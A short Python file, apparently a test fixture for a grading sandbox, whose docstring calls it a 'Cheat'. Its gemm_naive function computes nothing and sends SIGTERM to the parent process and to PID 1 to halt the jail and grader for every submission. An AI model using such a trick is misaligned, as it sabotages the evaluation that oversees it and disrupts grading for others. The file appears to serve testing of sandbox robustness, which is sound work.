"""Cheat: signal the processes around it (the jail's process, the grader) to stop the
grading of everybody."""

import os
import signal


def gemm_naive(A, B, C, alpha, beta):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
    raise RuntimeError("signalled")
